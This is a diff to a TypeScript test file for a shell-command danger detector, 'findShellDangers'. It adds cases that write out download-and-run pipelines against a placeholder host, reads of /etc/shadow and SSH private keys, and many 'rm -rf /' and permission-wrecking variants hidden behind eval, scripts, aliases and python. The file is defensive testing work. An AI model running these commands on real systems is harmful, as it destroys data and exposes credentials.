@@ -44,6 +44,31 @@ const lines = (text: string): readonly string[] =>
     .filter((line) => line !== '');
 
 describe('findShellDangers', () => {
+  const UNREADABLE = 'it cannot be read as a shell command';
+  const UNKNOWN_PROGRAM = 'the program it would start cannot be known beforehand';
+  it.each([
+    ['$x y', [UNKNOWN_PROGRAM]],
+    ['/bin/r? x', [UNKNOWN_PROGRAM]],
+    ['/bin/r* x', [UNKNOWN_PROGRAM]],
+    ['/bin/r[m] x', [UNKNOWN_PROGRAM]],
+    ['eval "$(x)"', []],
+    ['eval "$($x)"', [UNKNOWN_PROGRAM]],
+    ['eval "$(echo x; $y)"', [UNKNOWN_PROGRAM]],
+    ['eval "$(curl https://a.example)"', [UNKNOWN_CODE, UNKNOWN_PROGRAM]],
+    ['curl -o x https://a.example; sh x', [UNKNOWN_CODE]],
+    ['wget https://a.example/x.sh?y; bash x.sh', [UNKNOWN_CODE]],
+    ['curl https://a.example > x; ./x', [UNKNOWN_CODE]],
+    ['cd /etc; cat shadow', [CREDENTIALS]],
+    ['cd ~/.ssh && cat id_rsa', [CREDENTIALS]],
+    ['sh -c "', [UNREADABLE]],
+    ["sh -c 'a \"'", [UNREADABLE]],
+    ['ls;'.repeat(3_000), [UNREADABLE]],
+    [`${'sh -c '.repeat(1)}${"'".repeat(3)}`, [UNREADABLE]],
+    ['x'.repeat(1_000_000), [UNREADABLE]],
+  ] as const)('says of %.60s: %j', (command, dangers) => {
+    expect(findShellDangers(command)).toStrictEqual([...dangers]);
+  });
+
   it('says only what is known to be said', () => {
     for (const command of Object.values(DANGEROUS).flat())
       for (const danger of findShellDangers(command)) expect(SENTENCES, command).toContain(danger);
@@ -61,7 +86,20 @@ describe('findShellDangers', () => {
   const table: Readonly<Record<string, readonly string[]>> = {
     [DESTROYS]: lines(`
       rm /etc/fstab
-      bash -c -e 'rm -rf /'
+      cd /etc; rm passwd
+      cd / && cd etc && rm -r nginx
+      pushd /usr; rm -r bin
+      cd; rm -r Documents
+      cd ~/x; cd /; rm -r etc
+      cd /etc; cp x passwd
+      cd / ; chmod -R 777 etc
+      echo 'rm -rf /' > x.sh; sh x.sh
+      echo 'rm -rf /' > x.sh; chmod +x x.sh; ./x.sh
+      echo ls > x.sh; echo 'rm -rf /' >> x.sh; bash x.sh
+      eval "$(echo rm -rf /)"
+      python -c 'import os; os.system("rm -rf /")'
+      alias x='rm -rf /'
+          bash -c -e 'rm -rf /'
       bash -c -e -o x -- 'rm -rf /'
       bash -co x 'rm -rf /'
       sh -c -- 'rm -rf /'
@@ -531,6 +569,20 @@ describe('findShellDangers', () => {
   it.each(
     lines(`
       rm -r x/y
+      cd /etc; ls
+      cd /tmp; rm -r x
+      cd -; rm -r etc
+      cd $x; rm -r etc
+      cd /; rm -r --help /tmp/x
+      cd x; cd y; rm -r etc
+      ls /; rm -r etc
+      cd /etc; curl https://a.example/passwd
+      [ -f x ]
+      [[ -f x ]]
+      eval "$(ssh-agent -s)"
+      echo 'rm -rf /' > x.sh
+      echo 'it is "' > x.txt; cat x.txt
+      python -c 'print(1)'
       rm /tmp/x
       rm -r /etcetera/x
       rm -r /var/tmp/x
